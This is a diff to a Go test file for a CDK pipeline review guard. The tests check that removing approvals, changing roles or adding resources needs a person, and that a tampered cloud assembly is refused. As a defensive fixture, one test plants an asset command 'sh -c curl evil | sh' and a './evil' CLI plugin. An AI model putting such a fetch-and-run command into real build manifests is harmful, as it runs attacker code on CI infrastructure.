@@ -10,6 +10,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/aws/jsii-runtime-go"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
@@ -232,41 +233,168 @@ func nodeBinary(t *testing.T) string {
 	return path
 }
 
-// review.js guards the stages this app builds by the names it builds them with: removing any
-// approval, the self-update, or the roles check from the synthesized pipeline is a guarded
-// change; removing a deploy stage is only a change.
-func TestReviewGuardsThePipelinesOwnGates(t *testing.T) {
+// review.js lets through, without a person, only what changes what the pipeline builds: each
+// edit below is made to the synthesized pipeline stack and compared with the unedited one as
+// if it were deployed, by the names and logical IDs this app builds it with.
+func TestReviewLetsOnlyOrdinaryChangesThrough(t *testing.T) {
 	dir := t.TempDir()
-	deployed := filepath.Join(dir, "deployed.json")
 	data, err := json.Marshal(raw[PipelineStackID])
 	require.NoError(t, err)
+	deployed := filepath.Join(dir, "deployed.json")
 	require.NoError(t, os.WriteFile(deployed, data, 0o644))
+	guardedIDs := strings.Join([]string{logicalID(t, built.Pipeline.Stack, built.Pipeline.Node().FindChild(jsii.String("PipelineChanges"))),
+		logicalID(t, built.Pipeline.Stack, built.Pipeline.Node().FindChild(jsii.String("UpdatePipeline")))}, ",")
 
-	without := func(stage string) string {
+	edited := func(name string, edit func(tmpl map[string]any, stages []any) []any) string {
 		var tmpl map[string]any
 		require.NoError(t, json.Unmarshal(data, &tmpl))
 		for _, r := range tmpl["Resources"].(map[string]any) {
 			if get(r, "Type") == "AWS::CodePipeline::Pipeline" {
 				p := r.(map[string]any)["Properties"].(map[string]any)
-				p["Stages"] = slices.DeleteFunc(p["Stages"].([]any), func(s any) bool { return get(s, "Name") == stage })
+				p["Stages"] = edit(tmpl, p["Stages"].([]any))
 			}
 		}
-		path := filepath.Join(dir, stage+".json")
+		path := filepath.Join(dir, name+".json")
 		out, _ := json.Marshal(tmpl)
 		require.NoError(t, os.WriteFile(path, out, 0o644))
 		return path
 	}
+	// resource finds the resource whose logical ID starts with prefix: a build project, or the
+	// artifact bucket.
+	resource := func(tmpl map[string]any, prefix string) map[string]any {
+		for id, r := range tmpl["Resources"].(map[string]any) {
+			if strings.HasPrefix(id, prefix) && slices.Contains([]any{"AWS::CodeBuild::Project", "AWS::S3::Bucket"}, get(r, "Type")) {
+				return r.(map[string]any)
+			}
+		}
+		t.Fatalf("no resource %s*", prefix)
+		return nil
+	}
+	without := func(name string) func(map[string]any, []any) []any {
+		return func(_ map[string]any, stages []any) []any {
+			return slices.DeleteFunc(stages, func(s any) bool { return get(s, "Name") == name })
+		}
+	}
+	stageIndex := func(stages []any, name string) int {
+		return slices.IndexFunc(stages, func(s any) bool { return get(s, "Name") == name })
+	}
+
+	for _, c := range []struct {
+		name, want string // want "" means it goes through without a person
+		edit       func(map[string]any, []any) []any
+	}{
+		{"metadata only", "", func(tmpl map[string]any, stages []any) []any {
+			resource(tmpl, "ArtifactBucket")["Metadata"] = map[string]any{"note": "CloudFormation applies no Metadata-only change"}
+			return stages
+		}},
+		{"a build step", "", func(tmpl map[string]any, stages []any) []any {
+			src := resource(tmpl, "CdkSynth")["Properties"].(map[string]any)["Source"].(map[string]any)
+			src["BuildSpec"] = src["BuildSpec"].(string) + "# one more step\n"
+			return stages
+		}},
+		{"drops Approve_Prod", "changes the stages", without("Approve_Prod")},
+		{"drops Check_Roles", "changes the stages", without(CheckRolesStage)},
+		{"drops UpdatePipeline", "changes the stages", without(UpdatePipelineStage)},
+		{"drops Approve_UpdatePipeline", "changes the stages", without(ApproveUpdateStage)},
+		{"moves Deploy_Prod before its approval", "changes the stages", func(_ map[string]any, stages []any) []any {
+			i, j := stageIndex(stages, "Approve_Prod"), stageIndex(stages, "Deploy_Prod")
+			stages[i], stages[j] = stages[j], stages[i]
+			return stages
+		}},
+		{"another role for a deploy action", "changes the actions, roles or conditions of stage Deploy_Dev", func(_ map[string]any, stages []any) []any {
+			stages[stageIndex(stages, "Deploy_Dev")].(map[string]any)["Actions"].([]any)[0].(map[string]any)["RoleArn"] = "arn:aws:iam::123456789012:role/Other"
+			return stages
+		}},
+		{"the approval's text", "changes stage Approve_Prod", func(_ map[string]any, stages []any) []any {
+			a := stages[stageIndex(stages, "Approve_Prod")].(map[string]any)["Actions"].([]any)[0].(map[string]any)
+			a["Configuration"].(map[string]any)["CustomData"] = "approve anything"
+			return stages
+		}},
+		{"a new resource", "adds AWS::CodeBuild::Project Sneaky", func(tmpl map[string]any, stages []any) []any {
+			tmpl["Resources"].(map[string]any)["Sneaky"] = map[string]any{"Type": "AWS::CodeBuild::Project", "Properties": map[string]any{}}
+			return stages
+		}},
+		{"a build on another role", "ServiceRole", func(tmpl map[string]any, stages []any) []any {
+			resource(tmpl, "CdkSynth")["Properties"].(map[string]any)["ServiceRole"] = "arn:aws:iam::123456789012:role/Other"
+			return stages
+		}},
+		{"a trusted project's commands", "changes the trusted project", func(tmpl map[string]any, stages []any) []any {
+			src := resource(tmpl, "UpdatePipeline")["Properties"].(map[string]any)["Source"].(map[string]any)
+			src["BuildSpec"] = "version: 0.2"
+			return stages
+		}},
+		{"the bucket's deletion policy", "changes the type, dependencies or deletion policy of ArtifactBucket", func(tmpl map[string]any, stages []any) []any {
+			resource(tmpl, "ArtifactBucket")["DeletionPolicy"] = "Delete"
+			return stages
+		}},
+	} {
+		out, err := reviewJS(t, []string{"GUARDED_RESOURCES=" + guardedIDs}, "pipeline", deployed, edited(strings.ReplaceAll(c.name, " ", "-"), c.edit))
+		require.NoError(t, err, c.name)
+		if c.name == "metadata only" {
+			assert.Equal(t, "CHANGED=false\nGUARDED=''\n", out, "a Metadata-only change is no change, or the pipeline would update itself forever")
+			continue
+		}
+		assert.Contains(t, out, "CHANGED=true", c.name)
+		if c.want == "" {
+			assert.Contains(t, out, "GUARDED=''", "%s goes through without a person", c.name)
+		} else {
+			assert.Contains(t, out, c.want, "%s needs a person", c.name)
+		}
+	}
 	out, err := reviewJS(t, nil, "pipeline", deployed, deployed)
 	require.NoError(t, err)
 	assert.Equal(t, "CHANGED=false\nGUARDED=''\n", out)
+}
 
-	for _, stage := range []string{ApproveUpdateStage, UpdatePipelineStage, CheckRolesStage, "Approve_Prod"} {
-		out, err := reviewJS(t, nil, "pipeline", deployed, without(stage))
-		require.NoError(t, err)
-		assert.Contains(t, out, "CHANGED=true")
-		assert.Contains(t, out, "GUARDED='removes stage "+stage+"'", "a push that drops %s needs approval", stage)
+// cdk deploy of the assembly may do nothing but deploy the reviewed template: the assembly the
+// app synthesizes passes, and each way a push could make the CLI run its code fails.
+func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
+	copyAssembly := func(t *testing.T) string {
+		dir := t.TempDir()
+		for _, f := range []string{"manifest.json", PipelineStackID + ".assets.json", PipelineStackID + ".template.json"} {
+			data, err := os.ReadFile(filepath.Join(outdir, f))
+			require.NoError(t, err)
+			require.NoError(t, os.WriteFile(filepath.Join(dir, f), data, 0o644))
+		}
+		return dir
 	}
-	out, err = reviewJS(t, nil, "pipeline", deployed, without("Deploy_Dev"))
-	require.NoError(t, err)
-	assert.Equal(t, "CHANGED=true\nGUARDED=''\n", out, "an ordinary pipeline change goes through without a person")
+	check := func(dir string) (string, error) {
+		return reviewJS(t, nil, "assembly", dir, PipelineStackID, devAccount, testConfig.Region)
+	}
+	_, err := check(copyAssembly(t))
+	require.NoError(t, err, "the synthesized assembly deploys the template and nothing else")
+
+	edit := func(t *testing.T, file string, change func(m map[string]any)) string {
+		dir := copyAssembly(t)
+		m, err := jsonFile(filepath.Join(dir, file))
+		require.NoError(t, err)
+		change(m)
+		data, _ := json.Marshal(m)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, file), data, 0o644))
+		return dir
+	}
+	for name, dir := range map[string]string{
+		"an asset command": edit(t, PipelineStackID+".assets.json", func(m map[string]any) {
+			for _, f := range m["files"].(map[string]any) {
+				f.(map[string]any)["source"] = map[string]any{"executable": []any{"sh", "-c", "curl evil | sh"}}
+			}
+		}),
+		"another template": edit(t, "manifest.json", func(m map[string]any) {
+			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["templateFile"] = "Other.template.json"
+		}),
+		"another account": edit(t, "manifest.json", func(m map[string]any) {
+			get(m, "artifacts", PipelineStackID).(map[string]any)["environment"] = "aws://999999999999/" + testConfig.Region
+		}),
+		"a dependency": edit(t, "manifest.json", func(m map[string]any) {
+			s := get(m, "artifacts", PipelineStackID).(map[string]any)
+			s["dependencies"] = append(list(s["dependencies"]), "RepositoryStack")
+		}),
+	} {
+		_, err := check(dir)
+		assert.Error(t, err, "an assembly with %s is refused", name)
+	}
+	withPlugin := copyAssembly(t)
+	require.NoError(t, os.WriteFile(filepath.Join(withPlugin, "cdk.json"), []byte(`{"plugin":["./evil"]}`), 0o644))
+	_, err = check(withPlugin)
+	assert.Error(t, err, "a cdk.json in the assembly is refused")
 }
